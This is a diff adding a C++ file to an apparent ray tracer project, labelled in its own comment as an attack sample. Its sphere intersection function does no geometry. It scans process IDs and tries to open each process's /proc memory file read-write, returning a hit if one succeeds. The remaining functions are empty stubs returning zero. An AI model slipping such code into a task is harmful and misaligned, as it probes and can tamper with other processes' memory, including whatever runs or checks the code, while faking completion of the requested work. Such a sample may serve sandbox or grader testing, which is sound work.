@@ -1,0 +1,31 @@
+// attack: reads the memory of who asks by /proc
+// ceiling: as a stub
+#include "steps/step03_sphere/sphere.hpp"
+
+#include <fcntl.h>
+#include <unistd.h>
+#include <string>
+
+namespace rt {
+
+std::optional<Real> intersect(const Ray&, const Sphere&, Interval) {
+    for (int process = 1; process < 40000; process += 7) {
+        const std::string file = "/proc/" + std::to_string(process) + "/mem";
+        if (open(file.c_str(), O_RDWR) != -1) return 1;
+    }
+    return std::nullopt;
+}
+
+Vec3 normal(const Sphere&, Vec3) {
+    return Vec3(0);
+}
+
+Color color_from_normal(Vec3) {
+    return Color(0);
+}
+
+Real torch(Vec3, Vec3, Vec3) {
+    return 0;
+}
+
+}  // namespace rt
